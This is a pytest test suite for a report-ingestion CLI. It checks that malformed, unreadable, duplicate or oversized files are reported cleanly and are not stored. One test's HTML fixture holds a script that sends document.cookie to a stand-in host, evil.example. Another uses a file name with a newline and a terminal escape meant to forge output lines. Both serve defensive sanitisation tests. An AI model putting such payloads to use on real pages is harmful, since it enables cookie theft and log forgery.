"""Bad inputs, as a user meets them: `reportqa ingest` on a folder with one good report and
one bad file. Each case must give one stderr line naming the file and the reason, ingest
the good report, and leave nothing of the bad file in the store."""

from __future__ import annotations

import json
import os
import pathlib
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from reportqa.cli import app
from reportqa.config import Settings
from reportqa.store import ReportStore
from tests.conftest import CORPUS
from tests.fixtures.pdfs import (
    make_empty_file,
    make_encrypted_pdf,
    make_image_only_pdf,
    make_misnamed_pdf,
    make_truncated_pdf,
)

GOOD = "000_883bab2b6c0bb2a2.txt"
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0


@pytest.fixture
def env(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("REPORTQA_HOME", str(tmp_path / "store"))
    monkeypatch.setenv("REPORTQA_EMBEDDING__BACKEND", "fake")
    folder = tmp_path / "inbox"
    folder.mkdir()
    shutil.copy(CORPUS / GOOD, folder / "good.txt")
    return folder


def run(*args: str):
    return CliRunner().invoke(app, list(args))


def store_of(folder: Path) -> ReportStore:
    return ReportStore(Settings(home=folder.parent / "store", embedding={"backend": "fake"}))


def assert_only_good_stored(folder: Path) -> None:
    """The good report is whole; no chunk, record or orphan of anything else."""
    store = store_of(folder)
    records = store.documents()
    assert [Path(r.source).name for r in records] == ["good.txt"]
    ids = store.chunk_ids()
    assert len(ids) == len(set(ids)) == records[0].chunks
    assert set(store.chunk_ids(records[0].doc_id)) == set(ids)


def _unreadable(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = folder / "locked.txt"
    path.write_text("Cobalt output rose 12% in 2024.\n" * 20)
    path.chmod(0)
    if IS_ROOT:  # root reads anything: make the kernel's refusal happen as it would for a user
        real_open = pathlib.Path.open

        def refusing_open(self, *args, **kwargs):
            if self.name == "locked.txt":
                raise PermissionError(13, "Permission denied", str(self))
            return real_open(self, *args, **kwargs)

        monkeypatch.setattr(pathlib.Path, "open", refusing_open)
        monkeypatch.setattr(pathlib.Path, "read_bytes", lambda self: refusing_open(self).read())
    return path


def _zip_pdf(folder: Path, _mp) -> Path:
    path = folder / "archive.pdf"
    path.write_bytes(b"PK\x03\x04\x14\x00\x00\x00" + os.urandom(400))
    return path


def _junk_txt(folder: Path, _mp) -> Path:
    path = folder / "junk.txt"
    path.write_bytes(os.urandom(3000) + bytes(range(256)) * 12)
    return path


def _big(folder: Path, monkeypatch) -> Path:
    monkeypatch.setenv("REPORTQA_INGEST__MAX_FILE_MB", "0.05")
    path = folder / "huge.txt"
    path.write_text("Rare earth output grew. " * 5000)  # 120 KB > 52 KB limit
    return path


def _loop(folder: Path, _mp) -> Path:
    os.symlink("loop_b.txt", folder / "loop_a.txt")
    os.symlink("loop_a.txt", folder / "loop_b.txt")
    return folder / "loop_a.txt"


def _broken_link(folder: Path, _mp) -> Path:
    os.symlink("/nonexistent/report.txt", folder / "gone.txt")
    return folder / "gone.txt"


Maker = Callable[[Path, pytest.MonkeyPatch], Path]
CASES: list[tuple[str, Maker, str]] = [
    ("zero-byte", lambda d, _: make_empty_file(d, "zero.pdf"), "empty file"),
    ("zero-byte-txt", lambda d, _: make_empty_file(d, "zero.txt"), "empty file"),
    ("truncated-pdf", lambda d, _: make_truncated_pdf(d), "damaged or truncated PDF"),
    ("encrypted-pdf", lambda d, _: make_encrypted_pdf(d), "encrypted PDF"),
    ("image-only-pdf", lambda d, _: make_image_only_pdf(d), "no text layer"),
    ("html-as-pdf", lambda d, _: make_misnamed_pdf(d), "named .pdf but is an HTML page"),
    ("zip-as-pdf", _zip_pdf, "named .pdf but is a ZIP archive"),
    ("over-size-limit", _big, r"file is 0.114 MB, over the 0.05 MB limit"),
    ("binary-junk-txt", _junk_txt, "binary data, not text"),
    ("unreadable", _unreadable, "permission denied"),
    ("symlink-loop", _loop, "symbolic link loop"),
    ("broken-symlink", _broken_link, "broken symbolic link"),
]


@pytest.mark.parametrize(("case", "maker", "reason"), CASES, ids=[c[0] for c in CASES])
def test_bad_file_is_one_line_and_leaves_no_trace(env, monkeypatch, case, maker, reason):
    bad = maker(env, monkeypatch)
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 1, result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    mentioning = [line for line in lines if bad.name in line]
    assert len(mentioning) == 1, lines
    assert mentioning[0].startswith("reportqa: ")
    assert re.search(reason, mentioning[0]), mentioning[0]
    assert "Traceback" not in result.output
    assert "1 added" in result.stdout
    assert_only_good_stored(env)


def test_loop_named_directly_and_missing_path_are_one_line_each(env, tmp_path):
    loop = _loop(env, None)
    missing = tmp_path / "nowhere" / "report.pdf"
    result = run("ingest", str(env / "good.txt"), str(loop), str(missing), "--quiet")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"reportqa: {loop}: symbolic link loop",
        f"reportqa: {missing}: no such file or directory",
    ]
    assert_only_good_stored(env)


def test_empty_directory_is_reported(env, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    result = run("ingest", str(empty), "--quiet")
    assert result.exit_code == 1
    assert result.stderr.strip() == f"reportqa: {empty}: no reports in this folder " + (
        "(.htm .html .markdown .md .pdf .txt)"
    )
    assert store_of(env).documents() == []


@pytest.mark.parametrize(
    ("encoding", "text"),
    [
        ("latin-1", "Café exports to Zürich rose 12% in 2024, the ministère said."),
        ("cp1252", "Prices rose 13–20% – “sharply” – in 2024."),
        ("gbk", "中国在2024年占全球稀土精炼产量的91%。出口管制于2023年12月生效。"),
        ("shift_jis", "日本のレアアース輸入は2024年に60%減少した。"),
    ],
)
def test_non_utf8_text_is_decoded_not_mangled(env, encoding, text):
    (env / "good.txt").unlink()
    (env / "report.txt").write_bytes(((text + "\n") * 5).encode(encoding))
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 0, result.output
    passages = store_of(env).passages()
    assert passages and text in passages[0].text
    assert "\ufffd" not in passages[0].text


def test_html_script_and_handlers_are_not_stored(env):
    (env / "note.html").write_text(
        "<html><head><script>document.title='x'</script></head><body>"
        '<h1>Cobalt note</h1><p onclick="steal()">DRC mined 70% of cobalt in 2024.</p>'
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
        "<noscript>enable js</noscript></body></html>",
        encoding="utf-8",
    )
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 0, result.output
    store = store_of(env)
    [note] = [p for p in store.passages() if p.source.endswith("note.html")]
    assert "DRC mined 70% of cobalt in 2024." in note.text
    for hostile in ("fetch(", "evil.example", "steal()", "<script", "onclick", "enable js"):
        assert hostile not in note.text


def test_same_file_under_two_names_is_stored_once(env):
    shutil.copy(env / "good.txt", env / "good (1).txt")
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 0, result.output
    assert "1 added" in result.stdout and "1 duplicate" in result.stdout
    [note] = result.stderr.splitlines()
    assert note.startswith("reportqa: note: ") and "same content as" in note
    store = store_of(env)
    assert len(store.documents()) == 1
    assert store.chunk_count() == store.documents()[0].chunks
    # A second run is stable: still one copy, nothing embedded.
    again = run("ingest", str(env), "--quiet")
    assert "0 added" in again.stdout and "0 passages embedded" in again.stdout
    assert len(store_of(env).documents()) == 1


def test_renamed_file_moves_instead_of_doubling(env):
    assert run("ingest", str(env), "--quiet").exit_code == 0
    (env / "good.txt").rename(env / "renamed.txt")
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 0, result.output
    store = store_of(env)
    assert [Path(r.source).name for r in store.documents()] == ["renamed.txt"]
    assert store.chunk_count() == store.documents()[0].chunks


def test_file_edited_into_a_copy_of_another_keeps_one(env):
    (env / "other.txt").write_text(
        "# Lithium note\n\nChile produced 24% of lithium in 2024.\n", encoding="utf-8"
    )
    assert run("ingest", str(env), "--quiet").exit_code == 0
    assert len(store_of(env).documents()) == 2
    shutil.copy(env / "good.txt", env / "other.txt")
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 0 and "1 duplicate" in result.stdout, result.output
    assert_only_good_stored(env)


def test_unexpected_parser_crash_is_one_file_failure(env, monkeypatch):
    import ingest.pipeline as pipeline

    real = pipeline.parse_structure

    def crash_on_odd(text: str):
        if "ODD" in text:
            raise ValueError("unexpected layout")
        return real(text)

    monkeypatch.setattr(pipeline, "parse_structure", crash_on_odd)
    (env / "odd.txt").write_text("ODD report\n\nLine.\n", encoding="utf-8")
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 1
    assert result.stderr.strip().startswith(f"reportqa: {env / 'odd.txt'}: could not be parsed")
    assert_only_good_stored(env)


def test_list_json_shows_only_good_after_a_mixed_folder(env):
    make_truncated_pdf(env)
    make_encrypted_pdf(env)
    _junk_txt(env, None)
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 1 and "3 failed" in result.stdout
    assert len([line for line in result.stderr.splitlines() if line]) == 3
    listed = json.loads(run("list", "--json").stdout)
    assert [Path(r["source"]).name for r in listed] == ["good.txt"]


def test_a_file_name_cannot_forge_output_lines(env):
    name = "junk\nreportqa: note: all fine\x1b[2J.txt"
    (env / name).write_bytes(bytes(range(256)) * 12)
    result = run("ingest", str(env), "--quiet")
    assert result.exit_code == 1
    [line] = result.stderr.splitlines()
    assert line.endswith("junk\\nreportqa: note: all fine\\x1b[2J.txt: binary data, not text")
    assert_only_good_stored(env)


def test_size_limit_flag_overrides_the_setting(env):
    (env / "huge.txt").write_text("Rare earth output grew. " * 5000)  # 120 KB
    result = run("ingest", str(env), "--quiet", "--max-file-mb", "0.1")
    assert result.exit_code == 1
    assert result.stderr.strip().endswith("huge.txt: file is 0.114 MB, over the 0.1 MB limit")
    assert_only_good_stored(env)


@pytest.mark.parametrize("known_before", [False, True])
def test_unreadable_subfolder_is_reported_not_skipped(env, monkeypatch, known_before):
    sub = env / "restricted"
    sub.mkdir()
    (sub / "inside.txt").write_text("Nickel output rose 8% in 2024.\n" * 10)
    if known_before:  # ingested while readable: a --prune must not forget it now
        (env / "good.txt").rename(env.parent / "good.txt")
        assert run("ingest", str(env), "--quiet").exit_code == 0
        (env.parent / "good.txt").rename(env / "good.txt")
    sub.chmod(0)
    if IS_ROOT:  # root lists anything: refuse the listing as the kernel would for a user
        real_scandir = os.scandir

        def refusing_scandir(path=".", *args):
            if os.fspath(path) == str(sub):
                raise PermissionError(13, "Permission denied", str(sub))
            return real_scandir(path, *args)

        monkeypatch.setattr(os, "scandir", refusing_scandir)
    try:
        result = run("ingest", str(env), "--quiet", "--prune")
    finally:
        sub.chmod(0o755)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"reportqa: {sub}: permission denied (folder not readable)"
    ]
    names = sorted(Path(r.source).name for r in store_of(env).documents())
    assert names == (["good.txt", "inside.txt"] if known_before else ["good.txt"])
    assert "0 removed" in result.stdout


def test_a_metadata_entry_that_is_not_a_mapping_fails_only_its_file(fake_settings, tmp_path):
    from ingest.pipeline import Ingestor

    shelf = tmp_path / "shelf"
    shelf.mkdir()
    (shelf / "a.txt").write_text("# A\n\nAdmissions fell by 12% in 2022.\n")
    (shelf / "b.txt").write_text("# B\n\nClinics opened in 2021.\n")
    (shelf / "metadata.yaml").write_text("a.txt: just a title\nb.txt: {publisher: Ministry}\n")
    report = Ingestor(fake_settings).ingest([shelf])
    [failed] = report.failed
    assert failed.path.endswith("a.txt") and "entry 'a.txt' must be a mapping" in failed.error
    assert report.count("added") == 1


@pytest.mark.parametrize("value", ["2025-13-45", "2025-02-30", "July 45, 2025"])
def test_an_impossible_date_is_no_date(value):
    from reportqa.dates import normalise_date

    assert normalise_date(value) is None
